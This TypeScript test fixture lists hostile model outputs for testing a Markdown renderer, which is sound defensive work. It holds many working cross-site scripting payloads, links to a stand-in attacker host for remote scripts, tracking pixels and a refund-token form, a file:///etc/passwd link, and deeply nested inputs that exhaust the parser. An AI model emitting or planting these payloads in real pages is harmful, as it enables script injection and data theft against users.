/** What a model that was turned against its visitors might write, by what it tries. Collected from known attacks. */
export const HOSTILE_ANSWERS: Readonly<Record<string, string>> = {
  // Addresses that run, or that lead into our own pages.
  javascript: "[a](javascript:alert(1)) [b](javascript:alert(1) 'title') [c](<javascript:alert(1)>)",
  "javascript in other cases": "[a](JaVaScRiPt:alert(1)) [b](JAVASCRIPT:alert(1)) [c]( javascript:alert(1))",
  "javascript by entities":
    "[a](&#106;avascript:alert(1)) [b](&#x6A;avascript&colon;alert(1)) [c](javascript&#58;alert(1)) [d](&Tab;javascript:alert(1))",
  "javascript through blanks":
    "[a](java\tscript:alert(1)) [b](<java\nscript:alert(1)>) [c](java&Tab;script:alert(1)) [d](java&NewLine;script:alert(1)) [e](\u0001javascript:alert(1)) [f](java\u0000script:alert(1)) [g](\u00a0javascript:alert(1)) [h](\ufeffjavascript:alert(1))",
  "javascript by escapes":
    "[a](java\\script:alert(1)) [b](\\javascript:alert(1)) [c](javascript\\:alert(1)) [d](%6aavascript:alert(1)) [e](javascript%3Aalert(1))",
  "javascript that looks like http":
    "[a](javascript://example.org/%0Aalert(1)) [b](javascript:http://example.org) [c](x:http://example.org) [d](javascript:alert('https://'))",
  data: "[a](data:text/html,<script>alert(1)</script>) [b](DATA:text/html;base64,PHNjcmlwdD4x) [c](data:image/svg+xml,<svg/onload=alert(1)>) [d](d&#97;ta:text/html,x)",
  vbscript: "[a](vbscript:msgbox(1)) [b](VbScRiPt:msgbox(1)) [c](vbs\tcript:x)",
  "schemes of programs":
    "[a](file:///etc/passwd) [b](blob:https://example.org/1) [c](filesystem:http://x/) [d](ms-msdt:/id) [e](intent://x#Intent;end) [f](tel:1) [g](mailto:a@b.example) [h](lightning:lnbc1) [i](about:blank) [j](view-source:http://x) [k](ftp://x/) [l](ws://x/) [m](chrome://settings) [n](mhtml:http://x) [o](jar:http://x!/) [p](feed:javascript:alert(1)) [q](livescript:x) [r](mocha:x)",
  "addresses without a scheme":
    "[a](//evil.example/x) [b](/api/admin/node-status) [c](../admin) [d](#refund=x) [e](?x=1) [f](\\\\evil.example\\x) [g](/\\evil.example) [h](http:evil.example) [i](https:/evil.example) [j](http:\\\\evil.example) [k]() [l](<>) [m](.)",
  autolinks:
    "<javascript:alert(1)> <JAVASCRIPT:alert(1)> <data:text/html,x> <vbscript:x> <a@b.example> <ftp://x/> <x-y:z> www.example.org/javascript:alert(1) a@b.example mailto:a@b.example xmpp:a@b.example/x javascript:alert(1)",
  "links by reference":
    "[a] [b][] [c][x] ![d][x]\n\n[a]: javascript:alert(1)\n[b]: <data:text/html,x> 'title'\n[x]: vbscript:x\n[A]: https://example.org/second",
  "links in links": "[[a](javascript:alert(1))](https://example.org/) [![b](javascript:alert(1))](javascript:alert(2))",
  "names of hosts that deceive":
    "[a](https://bank.example@evil.example/) [https://bank.example](https://evil.example) [b](https://xn--80ak6aa92e.example) [c](https://evil.example/\u202egpj.exe)",
  "titles that break out":
    '[a](https://example.org/ "x\\" onclick=\\"alert(1)") [b](https://example.org/ \'"><img src=x onerror=alert(1)>\') [c](https://example.org/ (x" autofocus onfocus="alert(1)))',
  "addresses that break out":
    '[a](https://example.org/"onmouseover="alert(1)) [b](https://example.org/\'onclick=\'alert(1)) [c](<https://example.org/"><script>alert(1)</script>>) [d](https://example.org/`onclick=alert(1)) [e](https://example.org/&quot;onclick=&quot;alert(1))',

  // Pictures, which would tell somebody who reads what and when.
  pictures:
    '![a](https://evil.example/pixel.png) ![b](data:image/svg+xml,<svg/onload=alert(1)>) ![](https://evil.example/x) ![c](javascript:alert(1)) ![d"onerror="alert(1)](https://evil.example/y) ![e](https://evil.example/z "t" onload=alert(1))',
  "alternative text that breaks out":
    '![<img src=x onerror=alert(1)>](https://x.example/) ![" onerror="alert(1)](x) ![**b** <script>alert(1)</script>](x)',

  // HTML as it is.
  scripts:
    "<script>alert(1)</script>\n\n<SCRIPT SRC=//evil.example/x.js></SCRIPT>\n\ntext <script>alert(1)</script> text\n\n<script\n>alert(1)</script\n>\n\n<scr<script>ipt>alert(1)</scr</script>ipt>\n\n<script/x>alert(1)</script>\n\n<<script>alert(1)//<</script>",
  "event handlers":
    '<img src=x onerror=alert(1)> <body onload=alert(1)> <input autofocus onfocus=alert(1)> <details open ontoggle=alert(1)> <video><source onerror="alert(1)"></video> <marquee onstart=alert(1)> <a onclick=alert(1)>x</a> <p onpointerenter=alert(1)>x</p> <img/src/onerror=alert(1)> <img src=x onerror\t=alert(1)> <div onanimationstart=alert(1) style=animation:x>',
  svg: '<svg onload=alert(1)> <svg><script>alert(1)</script></svg> <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg> <svg><animate onbegin=alert(1) attributeName=x> <svg><foreignObject><body onload=alert(1)></foreignObject></svg> <svg><use href="data:image/svg+xml,x#x"></svg>',
  math: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math> <math href="javascript:alert(1)">x</math> $$\\href{javascript:alert(1)}{x}$$ $\\html{<img src=x onerror=alert(1)>}$',
  frames:
    '<iframe src="javascript:alert(1)"></iframe> <iframe srcdoc="<script>alert(1)</script>"></iframe> <frameset onload=alert(1)> <object data="javascript:alert(1)"></object> <embed src="//evil.example/x.swf"> <applet code=x> <portal src=//evil.example> <fencedframe></fencedframe>',
  "what changes the page":
    '<style>*{display:none}</style> <style>@import "//evil.example/x.css";</style> <link rel=stylesheet href=//evil.example/x.css> <meta http-equiv=refresh content="0;url=//evil.example"> <base href=//evil.example/> <title>x</title> <p style="position:fixed;inset:0;background:url(//evil.example/x)">x</p> <div class="for-screen-readers" hidden>x</div>',
  forms:
    '<form action=//evil.example><input name=refundToken><button formaction="javascript:alert(1)">Claim</button></form> <select><option>x</select> <textarea>x</textarea> <isindex action=javascript:alert(1)> <input type=image src=x onerror=alert(1)> <dialog open>x</dialog>',
  "elements of one's own":
    '<x-y onclick=alert(1)>x</x-y> <template><script>alert(1)</script></template> <slot name=x> <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "what mutates when it is parsed twice":
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></table></mtext></math>\n\n<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>"></form>\n\n<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>\n\n<noscript><style></noscript><img src=x onerror=alert(1)></style>\n\n<p id="`onmouseover=alert(1)">x</p>\n\n<listing>&lt;img src=x onerror=alert(1)&gt;</listing>\n\n<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>\n\n<select><template><style></select><img src=x onerror=alert(1)>',
  "comments and sections":
    "<!-- --><img src=x onerror=alert(1)> <!--><script>alert(1)</script>--> <!---><img src=x onerror=alert(1)> <![CDATA[><img src=x onerror=alert(1)>]]> <?php echo 1 ?> <?xml-stylesheet href='javascript:alert(1)'?> <!DOCTYPE html [<!ENTITY x 'y'>]> <!ENTITY x> <!--[if IE]><script>alert(1)</script><![endif]-->",
  entities:
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x3C;svg onload=alert(1)&#x3E; &amp;lt;script&amp;gt; &#0; &#xD800; &#x110000; &lt&lt; &notanentity; &#0000000000060;script>",
  "unclosed and badly nested":
    '<a href="javascript:alert(1)\n\n<img src="x\n\n</div></section></main></body></html>\n\n**<b>*</b>** <i><b></i></b> *a **b* c** <div\n\n> <p>\n</p> text\n\n<table><tr><td>[a](javascript:alert(1))',
  "HTML that Markdown opens":
    '<div>\n\n[a](javascript:alert(1))\n\n</div>\n\n<a href="https://example.org/">\n\n**x**\n\n</a>\n\n*<img src=x onerror=alert(1)>*\n\n# <script>alert(1)</script>\n\n> <iframe src=//evil.example>\n\n- <svg onload=alert(1)>\n\n| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
  "code that holds HTML":
    '```html\n<script>alert(1)</script>\n```\n\n```"><img/src=x/onerror=alert(1)> onclick=alert(1)\n<img src=x onerror=alert(1)>\n```\n\n~~~ style="x" id=answer-heading\nx\n~~~\n\n`<script>alert(1)</script>` ``<img src=x onerror=alert(1)>``\n\n    <script>alert(1)</script>\n\n```js\n</code></pre><script>alert(1)</script>',
  "names that push others aside":
    '<a id="answer-heading" name="answer-heading">x</a> <form name="body"></form> <img name="getElementById"> <p id="__NEXT_DATA__">{}</p>\n\n# answer-heading {#answer-heading}\n\ntext[^answer-heading] and[^__proto__] and[^constructor]\n\n[^answer-heading]: a note [back](javascript:alert(1))\n[^__proto__]: <script>alert(1)</script>\n[^constructor]: ![x](https://evil.example/x)',
  "definitions with names of objects":
    "[a][__proto__] [b][constructor] [c][toString] [hasOwnProperty]\n\n[__proto__]: javascript:alert(1)\n[constructor]: https://example.org/\n[toString]: data:text/html,x",

  // Text that looks like something else.
  "letters that turn the text round":
    "\u202eevil\u202c \u2066isolated \u202dforced\n\n[\u202ehttps://bank.example\u202c](https://evil.example/) `\u202e) }nimda si resu( fi\u202c` \u061c\u200f\u200e\u2069\u2068",
  "letters that cannot be seen":
    "a\u0000b\u0001c\u0008d\u001be[31m\u007ff\ufeffg\u200bh\ud800i\udfffj\ufffek\u{e0041}l\u2028m\u2029n",
  towers: `Z${"\u0335\u0321\u034e".repeat(300)}algo`,

  // Too much of something.
  "a table without end": `${"|a".repeat(400)}|\n${"|-".repeat(400)}|\n${`${"|x".repeat(400)}|\n`.repeat(25)}`,
  "a word without end": "x".repeat(30_000),
  "a fence that is never closed": `\`\`\`\n${"line\n".repeat(5_000)}`,
  "many links": "[a](https://example.org/) ".repeat(1_200),
  "many notes": `${Array.from({ length: 500 }, (_, n) => `[^${n}]`).join(" ")}\n\n${Array.from({ length: 500 }, (_, n) => `[^${n}]: note`).join("\n")}`,
};

const DEEP = 4_000;
const BACK_TO_BACK = 8_000;

/** Nested as deeply as the longest answer allows, closed and open: what calls itself for each level must not break. */
export const DEEP_ANSWERS: Readonly<Record<string, string>> = {
  quotes: `${">".repeat(BACK_TO_BACK)} x`,
  "quotes with blanks": `${"> ".repeat(DEEP)}x`,
  lists: `${"- ".repeat(DEEP)}x`,
  "numbered lists": `${"1. ".repeat(DEEP)}x`,
  "lists line by line": Array.from({ length: 200 }, (_, n) => `${" ".repeat(n * 2)}- x`).join("\n"),
  "lists and quotes": `${"> - ".repeat(DEEP / 2)}x`,
  "brackets open": "[".repeat(BACK_TO_BACK),
  "brackets closed": `${"[".repeat(DEEP)}x${"]".repeat(DEEP)}`,
  "links in links": `${"[".repeat(DEEP)}x${"](https://example.org/)".repeat(1_000)}`,
  "pictures in pictures": `${"![".repeat(DEEP)}x${"](x)".repeat(DEEP / 2)}`,
  "stars and lines": `${"*a _b ".repeat(DEEP)}`,
  "stars closed": `${"*a **b ".repeat(1_500)}${"** *".repeat(1_500)}`,
  "emphasis in emphasis": `${"_a ".repeat(DEEP)}x${" a_".repeat(DEEP)}`,
  "bold in bold": `${"**(".repeat(DEEP)}x${")**".repeat(DEEP)}`,
  "struck in struck": `${"~~(".repeat(DEEP)}x${")~~".repeat(DEEP)}`,
  "stars back to back": `${"*".repeat(BACK_TO_BACK)}x${"*".repeat(BACK_TO_BACK)}`,
  strikes: `${"~~a ~b ".repeat(DEEP / 2)}`,
  backticks: Array.from({ length: 250 }, (_, n) => "`".repeat(n + 1)).join(" "),
  parentheses: `[a](${"(".repeat(BACK_TO_BACK)}`,
  angles: "<".repeat(BACK_TO_BACK),
  "open tags": "<a ".repeat(DEEP),
  "div in div": "<div>".repeat(DEEP),
  "definitions open": "[a]: <".repeat(DEEP),
  "notes in notes": `${"[^a]: ".repeat(DEEP)}x`,
  addresses: "http://a.".repeat(DEEP / 2),
  "mail addresses": "a@a.".repeat(DEEP / 2),
};
